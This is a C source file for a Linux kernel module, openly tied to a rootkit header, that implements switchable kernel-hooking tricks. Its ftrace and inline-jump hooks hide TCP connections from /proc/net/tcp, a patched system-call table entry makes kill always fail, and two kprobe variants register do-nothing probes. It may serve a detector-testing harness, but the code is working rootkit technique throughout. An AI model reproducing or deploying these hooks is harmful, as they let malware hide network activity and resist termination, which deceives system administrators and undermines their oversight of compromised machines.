// SPDX-License-Identifier: GPL-2.0-or-later
/* Tricks that put code of ours in the way of a function: what hides connections from /proc/net/tcp. */
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <linux/unistd.h>

#include "rootkit.h"

#define VICTIM "tcp4_seq_show"
#define NOP_LENGTH 5

static int show_nothing(struct seq_file *file, void *item)
{
	return 0;
}

/* ftrace: the hook is called from the nop that each function begins with */

static void notrace traced(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
{
	if (!within_module(parent, THIS_MODULE))
		ftrace_get_regs(regs)->ip = (unsigned long)show_nothing;
}

static struct ftrace_ops hook = {
	.func = traced,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int ftrace_on(pid_t pid)
{
	return ftrace_set_filter(&hook, VICTIM, sizeof(VICTIM) - 1, 1) ?: register_ftrace_function(&hook);
}

static int ftrace_off(void)
{
	return unregister_ftrace_function(&hook);
}

/* kprobes: at the function's entry (carried by ftrace), and in its body (a breakpoint, then a jump) */

static int probed(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe entry_probe, body_probe;

static int probe_on(struct kprobe *probe, unsigned int offset)
{
	memset(probe, 0, sizeof(*probe));
	probe->symbol_name = VICTIM;
	probe->offset = offset;
	probe->pre_handler = probed;
	return register_kprobe(probe);
}

static int entry_probe_on(pid_t pid)
{
	return probe_on(&entry_probe, 0);
}

static int entry_probe_off(void)
{
	unregister_kprobe(&entry_probe);
	return 0;
}

static int body_probe_on(pid_t pid)
{
	return probe_on(&body_probe, NOP_LENGTH);
}

static int body_probe_off(void)
{
	unregister_kprobe(&body_probe);
	return 0;
}

/* a jump written over the function's first instruction */

static u8 *patched;
static u8 before[NOP_LENGTH];

static int inline_on(pid_t pid)
{
	u8 jump[NOP_LENGTH] = { 0xe9 };
	s32 distance;

	patched = symbol(VICTIM);
	if (!patched)
		return -ENOENT;
	distance = (u8 *)show_nothing - (patched + sizeof(jump));
	memcpy(jump + 1, &distance, sizeof(distance));
	memcpy(before, patched, sizeof(before));
	return overwrite(patched, jump, sizeof(jump));
}

static int inline_off(void)
{
	return overwrite(patched, before, sizeof(before));
}

/* an entry of the table of system calls */

static void **entry;
static void *original;

static asmlinkage long no_kill(const struct pt_regs *regs)
{
	return -ESRCH;
}

static int table_on(pid_t pid)
{
	void *ours = no_kill;

	entry = symbol("sys_call_table");
	if (!entry)
		return -ENOENT;
	entry += __NR_kill;
	original = *entry;
	return overwrite(entry, &ours, sizeof(ours));
}

static int table_off(void)
{
	return overwrite(entry, &original, sizeof(original));
}

struct trick function_tricks[] = {
	{ "ftrace", ftrace_on, ftrace_off },
	{ "kprobe-entry", entry_probe_on, entry_probe_off },
	{ "kprobe-body", body_probe_on, body_probe_off },
	{ "inline-hook", inline_on, inline_off },
	{ "syscall-table", table_on, table_off },
	{},
};
